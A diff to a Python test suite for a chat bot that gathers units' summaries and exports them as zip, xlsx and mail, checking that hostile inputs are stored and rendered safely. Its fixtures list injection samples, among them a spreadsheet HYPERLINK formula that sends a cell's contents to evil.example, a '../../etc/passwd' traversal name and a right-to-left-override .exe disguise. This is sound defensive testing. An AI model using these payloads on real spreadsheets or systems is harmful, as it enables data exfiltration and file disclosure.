@@ -2,7 +2,8 @@
 (issue 12, parts 2 and 3): each file opens, no cell is a formula, and the text is there.
 
 The texts and names go in through the real conversation (and the office's unit list);
-the database keeps exactly what was sent, and only what the office reads is rendered:
+the database keeps what was sent (less the NULs the input edge drops), and only what the
+office reads is rendered:
 a control character is shown as its sign (U+0007 → ␇), Word's manual line and page
 breaks (U+000B, U+000C) as line breaks, U+FFFE/U+FFFF as U+FFFD; a csv field that
 starts like a formula gets a leading ' (OWASP).
@@ -28,6 +29,7 @@ from sqlalchemy import select
 from bot.app import create_app
 from bot.cli import main
 from bot.config import build_config
+from bot.messages import storable_text
 from bot.services import build_services
 from bot.worker import Worker
 from scoring import Quarter
@@ -42,6 +44,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "=1+2", "+1+2",
 ODD = ["前\ufffe后", "前\uffff后", "从右到左\u202egpj.exe", "表情😀👨‍👩‍👧", "零宽\u200b\u200c\u200d\ufeff字符",
        "../../etc/passwd", "CON", "..", "前后 空格 .", "前\x7f后", "前\x9b2J后", "清屏\x1b[2J"]
 HOSTILE = CONTROLS + FORMULAS + ODD
+NUL_TEXT = "前\x00后"
 # 103,600 bytes of UTF-8 that the conversation takes (20,000 characters at most, white space
 # not counted): a pasted document with its indents and blank lines
 LONG = "志愿服务" + "\n\n      活动" * 7400
@@ -54,6 +57,12 @@ SIGNS = {**{chr(c): chr(0x2400 + c) for c in range(0x20)}, "\t": "\t", "\n": "\n
 def said(payload: str) -> str:
     """The hostile text at the start of a summary long enough to be recorded as one."""
     return payload + SUMMARY
+
+
+def kept(payload: str) -> str:
+    """What the database keeps of it: the input edge drops NULs (bot.messages), the text
+    handler the white space at both ends; the rest is as sent."""
+    return storable_text(said(payload)).strip()
 
 
 def shown(text: str) -> str:
@@ -71,7 +80,8 @@ def in_xlsx(text: str) -> str:
 
 
 def storable(payloads: list[str], db_url: str) -> list[str]:
-    """PostgreSQL can't hold U+0000 in text: keeping it out is the input edge's work."""
+    """Unit names PostgreSQL can hold (U+0000 it can't; a unit's name comes from the office's
+    list, not through the input edge, so NUL_TEXT is also sent as a text on every database)."""
     if db_url.startswith("postgresql"):
         return [p for p in payloads if "\x00" not in p]
     return payloads
@@ -122,6 +132,7 @@ def world(db_url, tmp_path, clock, smtp):
             chat.document(f"console:u{n}", f"{SUMMARY}（{n}）".encode(), f"{payload}.txt")
             chat.photo(f"console:u{n}", jpeg_bytes(seed=n))
         chat.say("console:u0", LONG)
+        chat.say("console:u0", said(NUL_TEXT))
         clock.set(shanghai(2026, 3, 20, 10, 0, 0))
         worker = Worker(services)
         while worker.run_once(limit=100):   # the clock stands still: a failed mail waits
@@ -204,8 +215,8 @@ def test_the_database_keeps_exactly_what_was_sent(world):
         files = set(uow.session.scalars(select(StoredFile.filename).where(
             StoredFile.kind == "document")))
     assert names == set(units)
-    assert texts == {SUMMARY, LONG, *(said(p).strip() for p in units)}  # as the handler keeps it
-    assert files == {PureWindowsPath(f"{p}.txt").name for p in units}
+    assert texts == {SUMMARY, LONG, kept(NUL_TEXT), *(kept(p) for p in units)}
+    assert files == {PureWindowsPath(storable_text(f"{p}.txt")).name for p in units}
 
 
 def test_every_units_evidence_pack_opens_with_its_texts_and_no_formula(world, client):
@@ -214,14 +225,15 @@ def test_every_units_evidence_pack_opens_with_its_texts_and_no_formula(world, cl
         pack = safe_zip(download(client, f"/admin/evidence/{unit_id}.zip?quarter=2026Q1"))
         [folder] = {n.split("/")[0] for n in pack.namelist()}
         text = pack.read(f"{folder}/2026-03/小结文字.txt").decode("utf-8-sig")
-        assert said(payload).strip() in text
+        assert kept(payload) in text
         assert len([n for n in pack.namelist() if "/文档/" in n]) == 1
         values = xlsx_values(pack.read(f"{folder}/回执清单.xlsx"))
-        assert in_xlsx(said(payload).strip()[:200]) in values
+        assert in_xlsx(kept(payload)[:200]) in values
     first = download(client, f"/admin/evidence/{units[next(iter(units))]}.zip?quarter=2026Q1")
     with safe_zip(first) as pack:
         [receipts] = [n for n in pack.namelist() if n.endswith("回执清单.xlsx")]
-        assert LONG[:200] in xlsx_values(pack.read(receipts))
+        values = xlsx_values(pack.read(receipts))
+        assert LONG[:200] in values and in_xlsx(kept(NUL_TEXT)) in values
         [texts] = [n for n in pack.namelist() if n.endswith("小结文字.txt")]
         assert LONG in pack.read(texts).decode("utf-8-sig")
 
@@ -336,8 +348,8 @@ def test_every_complete_month_is_mailed_with_its_texts_and_safe_attachment_names
             assert all(unicodedata.category(ch) not in ("Cc", "Cf") for ch in name)
     text = "\n".join(bodies)
     for payload in units:
-        assert shown(said(payload).strip()).replace("\r", "\n") in text.replace("\r", "\n")
-    assert LONG in text
+        assert shown(kept(payload)).replace("\r", "\n") in text.replace("\r", "\n")
+    assert LONG in text and shown(kept(NUL_TEXT)) in text
 
 
 def test_the_office_reads_every_text_and_downloads_every_document(world, client):
